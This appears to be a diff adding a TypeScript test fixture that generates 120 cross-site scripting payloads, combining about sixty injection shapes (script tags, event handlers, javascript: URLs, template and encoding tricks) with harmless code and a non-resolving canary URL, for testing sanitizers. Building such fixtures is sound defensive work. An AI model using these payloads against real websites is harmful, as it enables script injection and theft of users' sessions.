@@ -1,0 +1,75 @@
+/** Where every payload would call if it ran. Nothing listens there; one request is a failure. */
+export const CANARY = "https://canary.invalid/hit";
+
+const RUN = ["alert(1)", `fetch('${CANARY}')`, "window.hit=1", `new Image().src='${CANARY}'`];
+
+/** Shapes that have run in real products, with `%` for the code. */
+const SHAPES = [
+  "<script>%</script>",
+  "<ScRiPt >%</sCrIpT >",
+  `<script src="${CANARY}"></script>`,
+  '"><script>%</script>',
+  "'><script>%</script>",
+  "</title><script>%</script>",
+  "</textarea><script>%</script>",
+  "</style><script>%</script>",
+  "--><script>%</script>",
+  "]]><script>%</script>",
+  '<img src=x onerror="%">',
+  "<img src=x onerror=%>",
+  `<img src="${CANARY}">`,
+  `<img srcset="${CANARY} 1x">`,
+  '"><img src=x onerror=%>',
+  "<svg onload=%>",
+  "<svg/onload=%>",
+  "<svg><script>%</script></svg>",
+  "<svg><animate onbegin=% attributeName=x dur=1s>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=%>",
+  "<body onload=%>",
+  "<iframe srcdoc='<script>%</script>'></iframe>",
+  `<iframe src="${CANARY}"></iframe>`,
+  '<iframe src="javascript:%"></iframe>',
+  '<a href="javascript:%">click</a>',
+  '<a href=" jav&#x09;ascript:%">click</a>',
+  "javascript:%",
+  "JaVaScRiPt:%",
+  "java\tscript:%",
+  "data:text/html,<script>%</script>",
+  "vbscript:%",
+  '<input autofocus onfocus="%">',
+  "<details open ontoggle=%>",
+  "<video><source onerror=%>",
+  `<video poster="${CANARY}">`,
+  "<audio src=x onerror=%>",
+  `<object data="${CANARY}"></object>`,
+  `<embed src="${CANARY}">`,
+  `<link rel=stylesheet href="${CANARY}">`,
+  `<base href="${CANARY}">`,
+  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
+  `<style>@import '${CANARY}';</style>`,
+  `<div style="background:url(${CANARY})">`,
+  "<marquee onstart=%>",
+  '<form action="javascript:%"><button>x',
+  "{{constructor.constructor('%')()}}",
+  "$" + "{%}",
+  "<%= % %>",
+  "#{%}",
+  '" onmouseover="%" x="',
+  "' onfocus='%' autofocus='",
+  "` onerror=% `",
+  '<noscript><p title="</noscript><img src=x onerror=%>">',
+  "<template><script>%</script></template>",
+  "<xss onclick=% style=position:fixed;inset:0>",
+  "\u003cscript\u003e%\u003c/script\u003e",
+  "&lt;script&gt;%&lt;/script&gt;",
+  "\u202E<script>%</script>",
+  "<scr\u0000ipt>%</scr\u0000ipt>",
+  "[click](javascript:%)",
+  `![x](${CANARY})`,
+];
+
+/** Exactly 120: every shape, and the first ones again with other code. */
+export const XSS_PAYLOADS: readonly string[] = Array.from({ length: 120 }, (_, place) => {
+  const shape = SHAPES[place % SHAPES.length] ?? "";
+  return shape.replaceAll("%", RUN[(place + Math.floor(place / SHAPES.length)) % RUN.length] ?? "");
+});
